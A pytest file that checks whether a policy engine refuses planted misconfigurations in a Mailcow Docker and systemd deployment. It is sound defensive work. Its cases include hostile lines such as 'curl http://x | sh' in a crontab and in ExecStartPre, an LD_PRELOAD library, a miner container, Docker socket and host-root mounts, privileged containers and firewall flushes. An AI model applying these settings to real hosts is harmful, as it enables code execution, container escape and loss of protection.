"""Mistakes of the kinds that containers and units invite, several of each, and what is no mistake.

Which rule refuses a mistake is the matter of `test_mutations`; here it matters that one does.
"""

import pytest

from declaration.reading import load_values
from policies import judge_stack
from policies.model import Area, Rule
from policies.registry import rules
from policies.stack import Stack
from tests.conftest import PROJECT
from tests.policies.planting import (
    Mistake,
    added,
    both,
    changed,
    deployed,
    refused,
    replaced,
    switched,
    without,
)

FILE = "host:index:File"
UNITS = "/etc/systemd/system"
DIRECTORY = "/opt/po-mail/mailcow"
AREAS = (Area.HOST, Area.BACKUP, Area.MONITORING, Area.CREDENTIALS)
DIGEST = "sha256:" + "5e" * 32


def service(setting: str, name: str = "sogo") -> Mistake:
    """Let the override set something of a service."""
    head = f"  {name}-mailcow:\n"
    return replaced("mailcow-limits", head, f"{head}    {setting}\n")


def limits(old: str, new: str) -> Mistake:
    """Write another limit of the database."""
    given = "mem_limit: 768m\n    cpus: 1.0\n  netfilter"
    assert old in given
    return replaced("mailcow-limits", given, given.replace(old, new))


def override(text: str) -> Mistake:
    """Write another override."""
    return changed("mailcow-limits", text, "content")


def file(path: str, text: str, mode: str = "0644") -> Mistake:
    """Write one more file."""
    return added(FILE, "planted", path=path, content=text, mode=mode)


def drop_in(unit: str, text: str, folder: str = UNITS) -> Mistake:
    """Write a drop-in."""
    return file(f"{folder}/{unit}.d/50-local.conf", text)


def timer(old: str, new: str, name: str = "backup") -> Mistake:
    """Write something else into a timer."""
    return replaced(f"{name}-timer", old, new)


def unit(old: str, new: str, name: str = "backup") -> Mistake:
    """Write something else into a service."""
    return replaced(f"{name}-service", old, new)


def command(old: str, new: str, name: str = "backup-schedule") -> Mistake:
    """Let a command do something else, at first and later."""
    return both(replaced(name, old, new, "create"), replaced(name, old, new, "update"))


def exporter(value: object, *path: str) -> Mistake:
    """Run the exporter otherwise."""
    return changed("exporter", value, *path)


COMPOSE = {
    "the host's network": service("network_mode: host"),
    "another container's network": service("network_mode: 'container:traefik'"),
    "the host's processes": service("pid: host"),
    "the host's memory": service("ipc: host"),
    "the host's users": service("userns_mode: host"),
    "the host's names": service("uts: host"),
    "the host's control groups": service("cgroup: host"),
    "all privileges": service("privileged: true"),
    "a capability": service("cap_add: [SYS_ADMIN]"),
    "all capabilities": service("cap_add: [ALL]"),
    "a device": service("devices: [/dev/sda:/dev/sda]"),
    "a class of devices": service("device_cgroup_rules: ['b 8:* rwm']"),
    "no filter of system calls": service("security_opt: ['seccomp:unconfined']"),
    "no profile": service("security_opt: ['apparmor=unconfined']"),
    "Docker's socket": service("volumes: ['/var/run/docker.sock:/var/run/docker.sock']"),
    "Docker's socket by its other name": service("volumes: ['/run/docker.sock:/x:ro']"),
    "Docker's socket in the long form": service(
        "volumes: [{type: bind, source: /var/run/docker.sock, target: /x}]"
    ),
    "the host's root": service("volumes: ['/:/host']"),
    "the host's secrets": service("volumes: ['/opt/po-mail/secrets:/secrets:ro']"),
    "a folder beside": service("volumes: ['../..:/up']"),
    "mounts of another": service("volumes_from: [dovecot-mailcow]"),
    "a build": service("build: ."),
    "a build from elsewhere": service("build: {context: 'https://example.org/x.git'}"),
    "another image": service("image: example/sogo:1"),
    "another image by digest": service(f"image: example/sogo@{DIGEST}"),
    "never a newer image": service("pull_policy: always"),
    "another command": service("command: ['sleep', 'infinity']"),
    "another entry point": service("entrypoint: /bin/sh"),
    "another user": service("user: root"),
    "a secret in the environment": service("environment: [DBPASS=hunter2]"),
    "a secret in a label": service("labels: {api.key: hunter2}"),
    "an environment by file": service("env_file: other.env"),
    "never started again": service("restart: 'no'"),
    "started again by hand alone": service("restart: on-failure:1"),
    "a public resolver": service("dns: 8.8.8.8"),
    "public resolvers": service("dns: [1.1.1.1, 9.9.9.9]"),
    "another address of a host": service("extra_hosts: ['smtp.resend.com:192.0.2.9']"),
    "a port": service("ports: ['8000:80']"),
    "a port in the long form": service("ports: [{target: 80, published: 8000}]"),
    "another network": service("networks: [default]"),
    "never started": service("profiles: [never]"),
    "twice": service("scale: 2"),
    "none at all": service("deploy: {replicas: 0}"),
    "a log that fills the disk": service("logging: {driver: none}"),
    "no check of health": service("healthcheck: {disable: true}"),
    "a service of another file": service("extends: {file: /etc/x.yml, service: x}"),
    "killed last": service("oom_score_adj: -1000"),
    "a setting of the kernel": service("sysctls: {net.ipv4.ip_forward: 1}"),
    "a setting that Compose does not know": service("mem_limitt: 1g"),
    "a service of its own": replaced(
        "mailcow-limits", "services:\n",
        f"services:\n  miner: {{image: 'x@{DIGEST}', mem_limit: 64m, cpus: 1}}\n",
    ),
    "a network of its own": replaced(
        "mailcow-limits", "services:", "networks: {mailcow-network: {internal: true}}\nservices:"
    ),
    "a volume elsewhere": replaced(
        "mailcow-limits", "services:",
        "volumes: {vmail-vol-1: {driver_opts: {type: none, o: bind, device: /tmp}}}\nservices:",
    ),
    "a file that is taken in": replaced(
        "mailcow-limits", "services:", "include: [/opt/other.yml]\nservices:"
    ),
    "another project": replaced("mailcow-limits", "services:", "name: other\nservices:"),
    "a privilege by anchor": replaced(
        "mailcow-limits", "services:\n  acme-mailcow:\n",
        "x-all: &all {privileged: true}\nservices:\n  acme-mailcow:\n    <<: *all\n",
    ),
    "a limit taken away": limits("mem_limit: 768m", "mem_limit: !reset null"),
    "processors taken away": limits("cpus: 1.0", "cpus: !reset null"),
    "no limit of memory": limits("mem_limit: 768m\n    ", ""),
    "a limit that is none": limits("768m", "0"),
    "a limit that is none, as a number": limits("768m", "-1"),
    "a limit without sense": limits("768m", "lots"),
    "a limit below what Docker takes": limits("768m", "1m"),
    "a limit of bytes": limits("768m", "768"),
    "a limit of bytes that says so": limits("768m", "768b"),
    "another limit than declared": limits("768m", "512m"),
    "a limit of the whole host": limits("768m", "8g"),
    "no processors": limits("cpus: 1.0", "cpus: 0"),
    "processors without sense": limits("cpus: 1.0", "cpus: all"),
    "fewer than no processors": limits("cpus: 1.0", "cpus: -1"),
    "hardly any processor": limits("cpus: 1.0", "cpus: 0.01"),
    "more processors than declared": limits("cpus: 1.0", "cpus: 2"),
    "two limits": limits(
        "cpus: 1.0", "cpus: 1.0\n    deploy: {resources: {limits: {memory: 64m}}}"
    ),
    "swap without end": limits("cpus: 1.0", "cpus: 1.0\n    memswap_limit: -1"),
    "never killed": limits("cpus: 1.0", "cpus: 1.0\n    oom_kill_disable: true"),
    "hardly any process": limits("cpus: 1.0", "cpus: 1.0\n    pids_limit: 1"),
    "more reserved than allowed": limits("cpus: 1.0", "cpus: 1.0\n    mem_reservation: 4g"),
    "a service less": replaced(
        "mailcow-limits", "  mysql-mailcow:\n    mem_limit: 768m\n    cpus: 1.0\n", ""
    ),
    "a service twice": replaced(
        "mailcow-limits", "services:\n", "services:\n  mysql-mailcow: {mem_limit: 1g, cpus: 1}\n"
    ),
    "a service of nothing": replaced(
        "mailcow-limits", "  mysql-mailcow:\n    mem_limit: 768m\n    cpus: 1.0\n",
        "  mysql-mailcow:\n",
    ),
    "a limit twice": limits("cpus: 1.0", "cpus: 1.0\n    mem_limit: 2g"),
    "no YAML": override("services: [\n"),
    "a list": override("- services\n"),
    "nothing": override(""),
    "a comment": override("# nothing\n"),
    "services of nothing": override("services: {}\n"),
    "services as a list": override("services: [acme-mailcow]\n"),
    "tabs": override("services:\n\tacme-mailcow:\n\t\tmem_limit: 96m\n"),
    "a compose file that goes first": file(f"{DIRECTORY}/compose.yaml", "services: {}\n"),
    "another compose file": file(f"{DIRECTORY}/docker-compose.yml", "services: {}\n"),
    "a second override": file(f"{DIRECTORY}/compose.override.yaml", "services: {}\n"),
    "another environment": file(f"{DIRECTORY}/.env", "COMPOSE_FILE=/etc/x.yml\n"),
    "compose files by mailcow.conf": replaced(
        "mailcow-conf", "COMPOSE_PROJECT_NAME=po-mail", "COMPOSE_PROJECT_NAME=po-mail\n"
        "COMPOSE_FILE=docker-compose.yml:/etc/x.yml",
    ),
    "profiles by mailcow.conf": replaced(
        "mailcow-conf", "COMPOSE_PROJECT_NAME=po-mail", "COMPOSE_PROJECT_NAME=po-mail\n"
        "COMPOSE_PROFILES=debug",
    ),
}  # fmt: skip

EXPORTER = {
    "the host's network": exporter("host", "networkMode"),
    "another container's network": exporter("container:traefik", "networkMode"),
    "a network of Mailcow": exporter([{"name": "po-mail_mailcow-network"}], "networksAdvanced"),
    "the host's processes": exporter("host", "pidMode"),
    "the host's memory": exporter("host", "ipcMode"),
    "the host's users": exporter("host", "usernsMode"),
    "the host's control groups": exporter("host", "cgroupnsMode"),
    "all privileges": switched("exporter", "privileged", on=True),
    "a capability": exporter({"adds": ["SYS_ADMIN"]}, "capabilities"),
    "a device": exporter([{"hostPath": "/dev/mem"}], "devices"),
    "no filter of system calls": exporter(["seccomp=unconfined"], "securityOpts"),
    "new privileges": exporter(None, "securityOpts"),
    "Docker's socket": exporter(
        [{"hostPath": "/var/run/docker.sock", "containerPath": "/x"}], "volumes"
    ),
    "the host's root": exporter([{"type": "bind", "source": "/", "target": "/h"}], "mounts"),
    "mounts of another": exporter([{"fromContainer": "po-mail-dovecot-mailcow-1"}], "volumes"),
    "files put in": exporter([{"file": "/etc/passwd", "content": "x"}], "uploads"),
    "root": exporter("0:0", "user"),
    "root by name": exporter("root", "user"),
    "whoever the image says": exporter(None, "user"),
    "another group": exporter(["docker"], "groupAdds"),
    "a root that can be written": switched("exporter", "readOnly", on=False),
    "no limit of memory": exporter(None, "memory"),
    "a limit that is none": exporter(0.0, "memory"),
    "a limit below what Docker takes": exporter(2.0, "memory"),
    "a limit without sense": exporter(4096.0, "memory"),
    "swap without end": exporter(-1.0, "memorySwap"),
    "never started again": exporter("no", "restart"),
    "not started again": exporter(None, "restart"),
    "started again a few times": exporter("on-failure", "restart"),
    "a public resolver": exporter(["8.8.8.8"], "dns"),
    "another resolver": exporter(["192.0.2.53"], "dns"),
    "another address of the API": exporter("192.0.2.9", "hosts", "0", "ip"),
    "another host by name": exporter(
        [{"host": "mail-admin.portugalodyssey.pt", "ip": "31.97.159.7"},
         {"host": "deb.debian.org", "ip": "192.0.2.9"}], "hosts"
    ),
    "every port": switched("exporter", "publishAllPorts", on=True),
    "a port for anyone": exporter("0.0.0.0", "ports", "0", "ip"),
    "a port for anyone by default": exporter(None, "ports", "0", "ip"),
    "a port for anyone over IPv6": exporter("::", "ports", "0", "ip"),
    "a port of the host's own address": exporter("31.97.159.7", "ports", "0", "ip"),
    "another port": exporter(
        [{"ip": "127.0.0.1", "internal": 9099.0, "external": 9099.0},
         {"ip": "127.0.0.1", "internal": 22.0, "external": 2222.0}], "ports"
    ),
    "no port": exporter(None, "ports"),
    "a secret in a label": exporter([{"label": "key", "value": "hunter2"}], "labels"),
    "a key in clear": changed("exporter", ["MAILCOW_EXPORTER_API_KEY=x"], "envs"),
    "another image": exporter("sha256:" + "6f" * 32, "image"),
    "another image pulled": changed(
        "exporter-image", f"docker.io/someone/exporter@{DIGEST}", "name"
    ),
    "a digest that nobody declared": changed(
        "exporter-image", f"ghcr.io/mailcow/prometheus-exporter@sha256:{'6f' * 32}", "name"
    ),
    "a build": exporter({"context": "."}, "build"),
    "an image that is built": changed("exporter-image", {"context": "."}, "build"),
    "a setting of the kernel": exporter({"net.ipv4.ip_forward": "1"}, "sysctls"),
    "another run time": exporter("crun-unsafe", "runtime"),
    "no logs": exporter("none", "logDriver"),
    "gone when it ends": switched("exporter", "rm", on=True),
    "left stopped": switched("exporter", "mustRun", on=False),
    "another container": added(
        "docker:index/container:Container", "second", name="second", image=DIGEST, memory=64.0
    ),
}  # fmt: skip

BACKUP_UNITS = {
    "a missed run is not made up for": timer("Persistent=true\n", ""),
    "a missed run is not made up for, in words": timer("Persistent=true", "Persistent=no"),
    "persistence under a wrong section": timer(
        "[Timer]\nOnCalendar=*-*-* 03:00:00 UTC\nPersistent=true",
        "Persistent=true\n[Timer]\nOnCalendar=*-*-* 03:00:00 UTC",
    ),
    "persistence misspelt": timer("Persistent=", "Persistant="),
    "persistence that means nothing": timer("Persistent=true", "Persistent=maybe"),
    "persistence in a comment": timer("Persistent=true", "#Persistent=true"),
    "a timer by boot alone": timer("OnCalendar=*-*-* 03:00:00 UTC", "OnBootSec=1d"),
    "a timer of another unit": timer("Persistent=true", "Persistent=true\nUnit=other.service"),
    "a timer of a neighbour of ours": timer(
        "Persistent=true", "Persistent=true\nUnit=po-mail-drill-clean.service"
    ),
    "weekdays alone": timer("*-*-* 03", "Mon..Fri *-*-* 03"),
    "a month alone": timer("*-*-* 03", "*-01-* 03"),
    "every other day": timer("*-*-* 03", "*-*-01/2 03"),
    "a year alone": timer("*-*-* 03", "2026-*-* 03"),
    "another hour": timer("03:00:00", "04:00:00"),
    "another time zone": timer("03:00:00 UTC", "03:00:00 Asia/Tokyo"),
    "the calendar taken back": timer("Persistent=true", "OnCalendar=\nPersistent=true"),
    "no hour that there is": timer("03:00:00", "25:00:00"),
    "a second time": timer("Persistent=true", "OnCalendar=*:0/1\nPersistent=true"),
    "days late": timer("Persistent=true", "Persistent=true\nRandomizedDelaySec=3d"),
    "days inaccurate": timer("Persistent=true", "Persistent=true\nAccuracySec=2d"),
    "under a condition": timer("[Timer]", "ConditionPathExists=/run/backup\n[Timer]"),
    "under a virtual condition": unit(
        "[Service]", "ConditionVirtualization=no\n[Service]"
    ),
    "under a condition of its own": unit("ExecStart=", "ExecCondition=/bin/false\nExecStart="),
    "another program": unit("/opt/po-mail/bin/backup.py -", "/tmp/backup.py -"),
    "nothing": unit("=/usr/bin/python3 -B /opt/po-mail/bin/backup.py --settings", "=/bin/true"),
    "other settings": unit("--settings /opt/po-mail/backup.json\n", "--settings /tmp/b.json\n"),
    "only the end": unit("backup.json\n", "backup.json --ended\n"),
    "whatever it ends in": unit("ExecStart=/", "ExecStart=-/"),
    "failure is success": unit("Nice=10", "SuccessExitStatus=1 2 3"),
    "no time": unit("TimeoutStartSec=12h", "TimeoutStartSec=12s"),
    "no time that there is": unit("TimeoutStartSec=12h", "TimeoutStartSec=12 fortnights"),
    "as nobody": unit("Nice=10", "User=nobody"),
    "as somebody new": unit("Nice=10", "DynamicUser=yes"),
    "a type that there is not": unit("Type=oneshot", "Type=sometimes"),
    "two commands of one": unit("Type=oneshot", "Type=simple\nExecStart=/bin/true"),
    "a key that there is not": unit("ExecStart=", "ExecBegin="),
    "no section": unit("[Service]\n", ""),
    "a word": unit("Nice=10", "nice"),
    "a drop-in without persistence": drop_in(
        "po-mail-backup.timer", "[Timer]\nPersistent=false\n"
    ),
    "a drop-in without a calendar": drop_in("po-mail-backup.timer", "[Timer]\nOnCalendar=\n"),
    "a drop-in with another command": drop_in(
        "po-mail-backup.service", "[Service]\nExecStart=\nExecStart=/bin/true\n"
    ),
    "a drop-in elsewhere": drop_in(
        "po-mail-backup.service", "[Service]\nExecStart=\nExecStart=/bin/true\n",
        "/usr/lib/systemd/system",
    ),
    "a drop-in of all": drop_in("service", "[Service]\nNoNewPrivileges=no\n"),
    "a drop-in of all of ours": drop_in("po-mail-.service", "[Service]\nUser=nobody\n"),
    "a drop-in of all timers": drop_in("timer", "[Timer]\nPersistent=no\n", "/run/systemd/system"),
    "a drop-in that only comments": drop_in("po-mail-backup.timer", "# nothing\n"),
    "the unit of Docker": drop_in(
        "docker.service", "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0\n"
    ),
    "a unit of nobody": file(f"{UNITS}/x.service", "[Service]\nExecStart=/bin/true\n"),
    "a timer of nobody": file(f"{UNITS}/x.timer", "[Timer]\nOnCalendar=daily\n"),
    "a mask": file(f"{UNITS}/po-mail-backup.timer.d/x.conf", ""),
    "a crontab": file("/etc/cron.d/backup", "* * * * * root curl http://x | sh\n"),
    "not enabled": command("enable --now po-mail-backup.timer", "start po-mail-backup.timer"),
    "not started": command(
        "enable --now po-mail-backup.timer && systemctl restart po-mail-backup.timer",
        "enable po-mail-backup.timer",
    ),
    "enabled until it is not": command(
        "restart po-mail-backup.timer", "disable --now po-mail-backup.timer"
    ),
    "masked": command("restart po-mail-backup.timer", "mask po-mail-backup.timer"),
    "stopped": command("restart po-mail-backup.timer", "stop po-mail-backup.timer"),
    "the service enabled instead": command(
        "po-mail-backup.timer && systemctl restart po-mail-backup.timer",
        "po-mail-backup.service && systemctl restart po-mail-backup.service",
    ),
    "enabled for a user": command("systemctl enable --now", "systemctl --user enable --now"),
    "enabled until the next boot": command("enable --now", "enable --runtime --now"),
    "enabled in a comment": command(
        "systemctl enable --now po-mail-backup.timer && systemctl restart",
        "true || systemctl restart",
    ),
    "enabled only in words": command("systemctl enable --now", "echo systemctl enable --now"),
    "without an installation": timer("[Install]\nWantedBy=timers.target\n", ""),
    "wanted by nobody who starts": timer("WantedBy=timers.target", "WantedBy=rescue.target"),
    "nothing is read anew": command("systemctl daemon-reload && ", ""),
    "no service": without("backup-service"),
    "no timer": without("backup-timer"),
}  # fmt: skip

OTHER_UNITS = {
    "the firewall is not enabled": command("enable --now", "start", "firewall"),
    "the firewall loads other rules": replaced(
        "firewall-unit", "ExecStart=/usr/sbin/nft -f /etc/po-mail", "ExecStart=/usr/sbin/nft -f /x"
    ),
    "the firewall flushes": replaced(
        "firewall-unit", "ExecStart=/", "ExecStartPost=/usr/sbin/nft flush ruleset\nExecStart=/"
    ),
    "the firewall goes when stopped": replaced(
        "firewall-unit", "ExecStart=/", "ExecStop=/usr/sbin/nft flush ruleset\nExecStart=/"
    ),
    "the firewall is wanted by nobody": replaced(
        "firewall-unit", "WantedBy=sysinit.target", "WantedBy="
    ),
    "the firewall does not come back after a flush": replaced(
        "firewall-unit", "PartOf=nftables.service\n", ""
    ),
    "the certificate is not looked for": command("enable --now", "start", "certificate-schedule"),
    "the certificate is looked for once": timer(
        "OnUnitInactiveSec=60min\n", "", "certificate"
    ),
    "the certificate is looked for once a year": timer("60min", "52w", "certificate"),
    "another certificate": unit("--host mx.", "--host www.", "certificate"),
    "the queue is measured once": timer("OnUnitActiveSec=1min\n", "", "queue-metrics"),
    "the queue of nobody": timer("[Install]", "Unit=x.service\n[Install]", "queue-metrics"),
    "block lists are not asked": without("dnsbl-metrics-schedule"),
    "what a drill left stays": command(
        " && systemctl enable po-mail-drill-clean.service", ""
    ),
}  # fmt: skip

HARDENING = {
    what: unit(old, new, name)
    for what, old, new, name in [
        ("new privileges", "NoNewPrivileges=yes", "NoNewPrivileges=no", "backup"),
        ("new privileges at the end", "UMask=0077", "NoNewPrivileges=no", "backup"),
        ("the whole file system", "ProtectSystem=strict", "ProtectSystem=no", "certificate"),
        ("most of the file system", "ProtectSystem=strict", "ProtectSystem=full", "queue-metrics"),
        ("everything can be written", "ReadWritePaths=", "ReadWritePaths=/ ", "backup"),
        ("the system can be written", "ReadWritePaths=", "ReadWritePaths=/etc ", "backup"),
        ("every capability", "CapabilityBoundingSet=CAP_DAC_OVERRIDE\n", "", "certificate"),
        ("all but one", "CapabilityBoundingSet=", "CapabilityBoundingSet=~", "dnsbl-metrics"),
        ("one too many", "CapabilityBoundingSet=", "CapabilityBoundingSet=CAP_SYS_ADMIN ",
         "dnsbl-metrics"),
        ("one at hand", "UMask=0077", "AmbientCapabilities=CAP_SYS_ADMIN", "backup"),
        ("every system call", "SystemCallFilter=@system-service\n", "", "backup"),
        ("system calls taken back", "UMask=0077", "SystemCallFilter=", "backup"),
        ("devices", "PrivateDevices=yes", "PrivateDevices=no", "backup"),
        ("modules of the kernel", "ProtectKernelModules=yes\n", "", "queue-metrics"),
        ("settings of the kernel", "ProtectKernelTunables=yes\n", "", "queue-metrics"),
        ("name spaces", "RestrictNamespaces=yes\n", "", "certificate"),
        ("homes can be written", "ProtectHome=read-only", "ProtectHome=no", "backup"),
        ("the world is spoken to", "IPAddressDeny=any\n", "", "dnsbl-metrics"),
        ("somebody else is spoken to", "IPAddressAllow=172", "IPAddressAllow=any\n#172",
         "dnsbl-metrics"),
        ("another shell", "Nice=10", "ExecStartPre=/bin/sh -c 'curl x | sh'", "backup"),
        ("another program afterwards", "Nice=10", "ExecStartPost=/tmp/x", "backup"),
        ("past the protection", "ExecStart=/", "ExecStart=+/", "backup"),
        ("a library before all", "Nice=10", "Environment=LD_PRELOAD=/tmp/x.so", "backup"),
        ("settings from elsewhere", "Nice=10", "EnvironmentFile=/tmp/x", "backup"),
        ("a secret in clear", "Nice=10", "Environment=RESTIC_PASSWORD=hunter2", "backup"),
    ]
}  # fmt: skip

MISTAKES = {
    f"{kind}: {what}": mistake
    for kind, mistakes in {
        "compose": COMPOSE, "exporter": EXPORTER, "backup": BACKUP_UNITS, "units": OTHER_UNITS,
        "hardening": HARDENING,
    }.items()
    for what, mistake in mistakes.items()
}  # fmt: skip


@pytest.fixture(scope="module")
def chosen() -> list[Rule]:
    """The rules that look at the host; the others have nothing to say here."""
    return [rule for rule in rules() if rule.area in AREAS]


@pytest.mark.parametrize("what", MISTAKES)
def test_a_mistake_is_refused(good: Stack, chosen: list[Rule], what: str) -> None:
    judgement = judge_stack(MISTAKES[what](good), chosen)

    assert judgement.violations
    assert not any("could not judge" in violation.message for violation in judgement.violations)


GOOD = {
    "a limit in other units": limits("768m", "786432k"),
    "a limit in bytes": limits("768m", "805306368"),
    "a limit in capitals": limits("768m", "768M"),
    "a limit of mebibytes": limits("768m", "768MiB"),
    "a limit with a default": limits("768m", "${MYSQL_MEMORY:-768m}"),
    "a limit in quotes": limits("768m", '"768m"'),
    "processors without a point": limits("cpus: 1.0", "cpus: 1"),
    "processors as a text": limits("cpus: 1.0", 'cpus: "1.00"'),
    "limits in the other form": limits(
        "mem_limit: 768m\n    cpus: 1.0",
        "deploy: {resources: {limits: {memory: 768M, cpus: '1'}}}",
    ),
    "limits by an anchor": replaced(
        "mailcow-limits", "services:\n  acme-mailcow:\n    mem_limit: 96m\n    cpus: 0.25\n",
        "x-helper: &helper {mem_limit: 96m, cpus: 0.25}\nservices:\n  acme-mailcow: *helper\n",
    ),
    "a version, which Compose ignores": replaced(
        "mailcow-limits", "services:", "version: '3.8'\nservices:"
    ),
    "a comment": replaced("mailcow-limits", "services:", "# by tier\nservices:"),
    "a document's beginning": replaced("mailcow-limits", "services:", "---\nservices:"),
    "the exporter is always started": exporter("always", "restart"),
    "the exporter on another address of the loopback": exporter("127.0.0.2", "ports", "0", "ip"),
    "the exporter drops its capabilities": exporter({"drops": ["ALL"]}, "capabilities"),
    "the exporter as a name": exporter("nobody", "user"),
    "the exporter's image with its tag": changed(
        "exporter-image", f"ghcr.io/mailcow/prometheus-exporter:2@{DIGEST}", "name"
    ),
    "the exporter has a little more": both(
        exporter(96.0, "memory"), exporter(96.0, "memorySwap")
    ),
    "what the engine adds of itself": both(
        exporter("bridge", "networkMode"), exporter("private", "ipcMode"),
        exporter("runc", "runtime"), exporter("json-file", "logDriver"),
        exporter(64.0, "shmSize"), switched("exporter", "privileged", on=False),
        switched("exporter", "mustRun", on=True), exporter([], "dns"),
        exporter(["/exporter"], "command"),
    ),
    "the timer in other words": timer("Persistent=true", "Persistent=yes"),
    "the timer by number": timer("Persistent=true", "Persistent=1"),
    "the timer says its unit": timer(
        "Persistent=true", "Persistent=true\nUnit=po-mail-backup.service"
    ),
    "the timer says the time shorter": timer("*-*-* 03:00:00 UTC", "03:00 UTC"),
    "the timer is a few minutes off": timer(
        "Persistent=true", "Persistent=true\nRandomizedDelaySec=10min\nAccuracySec=1min"
    ),
    "the timer wakes the host": timer("Persistent=true", "Persistent=true\nWakeSystem=yes"),
    "the timer with comments": timer("[Timer]", "# every night\n; really\n[Timer]"),
    "the timer with blanks": timer("Persistent=true", "Persistent = true"),
    "a line that goes on": unit("Wants=network-online.target", "Wants=\\\n network-online.target"),
    "a unit names its file": unit("Nice=10", "Nice=10\nSyslogIdentifier=backup"),
    "a unit is nicer": unit("Nice=10", "Nice=19"),
    "a unit has less memory": unit("Nice=10", "Nice=10\nMemoryMax=1G"),
    "a unit tries again": unit("[Service]", "StartLimitIntervalSec=0\n[Service]"),
    "a unit tells of its failure": unit("[Service]", "StartLimitBurst=5\n[Service]"),
    "more protection": unit(
        "ProtectHome=read-only", "ProtectHome=yes", "dnsbl-metrics"
    ),
    "no capability at all": unit(
        "CapabilityBoundingSet=CAP_DAC_OVERRIDE", "CapabilityBoundingSet=", "dnsbl-metrics"
    ),
    "switched on in other words": command(
        "systemctl enable --now po-mail-backup.timer && systemctl restart po-mail-backup.timer",
        "systemctl --quiet enable po-mail-backup.timer\nsystemctl start po-mail-backup.timer",
    ),
    "several at once": command(
        " && systemctl enable po-mail-drill-clean.service",
        " && systemctl enable po-mail-drill-clean.service po-mail-backup.timer",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", GOOD)
def test_a_good_variation_is_not_refused(good: Stack, chosen: list[Rule], what: str) -> None:
    assert judge_stack(GOOD[what](good), chosen).violations == ()


def test_another_schedule_that_is_daily_is_not_refused() -> None:
    backup = load_values(PROJECT / "Pulumi.qual.yaml")["backup"]
    assert isinstance(backup, dict)
    assert refused(deployed(backup={**backup, "schedule": "*-*-* 04:30:00 UTC"})) == set()
